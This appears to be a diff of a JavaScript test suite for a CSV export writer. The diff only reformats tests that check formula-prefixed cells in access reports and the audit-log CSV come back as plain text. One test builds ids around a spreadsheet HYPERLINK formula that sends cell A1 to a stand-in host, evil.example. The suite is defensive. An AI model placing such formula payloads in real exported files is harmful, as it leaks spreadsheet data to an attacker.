@@ -60,7 +60,14 @@ t.test('csvCell: each formula prefix becomes text, quoted; plain cells stay as t
   t.equal(csvCell('say "hi"'), '"say ""hi"""', 'quotes are doubled')
   t.equal(csvCell('two\nlines'), '"two\nlines"')
   t.equal(csvCell('cr\rinside'), '"cr\rinside"')
-  t.equal(toCsv([['a', '=1+1'], ['b,c', '']]), `a,"'=1+1"\n"b,c",\n`, 'rows joined by \\n, one after the last')
+  t.equal(
+    toCsv([
+      ['a', '=1+1'],
+      ['b,c', ''],
+    ]),
+    `a,"'=1+1"\n"b,c",\n`,
+    'rows joined by \\n, one after the last',
+  )
 })
 
 t.test('the access report CSV goes through the one writer', async (t) => {
@@ -88,14 +95,23 @@ t.test('through HTTP: access-report cells with ids a caller chose read back as w
   t.equal(res.statusCode, 200, res.body)
   const rows = parseCsv(res.body)
   t.same(formulas(rows), [], 'no cell starts a formula')
-  for (const id of ids) t.ok(rows.some((r) => r[0] === `user:${id}`), `user:${id} listed as it is`)
+  for (const id of ids)
+    t.ok(
+      rows.some((r) => r[0] === `user:${id}`),
+      `user:${id} listed as it is`,
+    )
 })
 
 t.test('through HTTP: an event id, and a key name, that start a formula land in GET /v1/audit?format=csv as text', async (t) => {
   const KEY = 'csv-platform-key-0123456789abcdef'
   const app = await buildTestApp(t, { overrides: { apiKeys: [`-ops:${KEY}`] } })
   const headers = { authorization: `Bearer ${KEY}` }
-  const seed = await app.inject({ method: 'POST', url: '/v1/events', headers, payload: ev('organization.created', { organizationId: 'acme', ownerId: 'olga' }) })
+  const seed = await app.inject({
+    method: 'POST',
+    url: '/v1/events',
+    headers,
+    payload: ev('organization.created', { organizationId: 'acme', ownerId: 'olga' }),
+  })
   t.equal(seed.statusCode, 200, seed.body)
   const ids = DANGEROUS.map((d) => `${d}HYPERLINK("http://evil.example/?"&A1,"open"),x`)
   for (const [i, id] of ids.entries()) {
@@ -109,6 +125,13 @@ t.test('through HTTP: an event id, and a key name, that start a formula land in 
   const rows = parseCsv(res.body)
   t.same(rows[0], ['id', 'at', 'key', 'source', 'event_id', 'event_type', 'actor', 'operation', 'relationship', 'zedtoken'])
   t.same(formulas(rows), [], 'no cell starts a formula')
-  for (const id of ids) t.ok(rows.some((r) => r[4] === `'${id}`), `event id ${JSON.stringify(id)} is text, whole in its column`)
-  t.ok(rows.slice(1).every((r) => r.length === 10 && r[2] === "'-ops"), 'every row has its ten columns, the key name as text')
+  for (const id of ids)
+    t.ok(
+      rows.some((r) => r[4] === `'${id}`),
+      `event id ${JSON.stringify(id)} is text, whole in its column`,
+    )
+  t.ok(
+    rows.slice(1).every((r) => r.length === 10 && r[2] === "'-ops"),
+    'every row has its ten columns, the key name as text',
+  )
 })
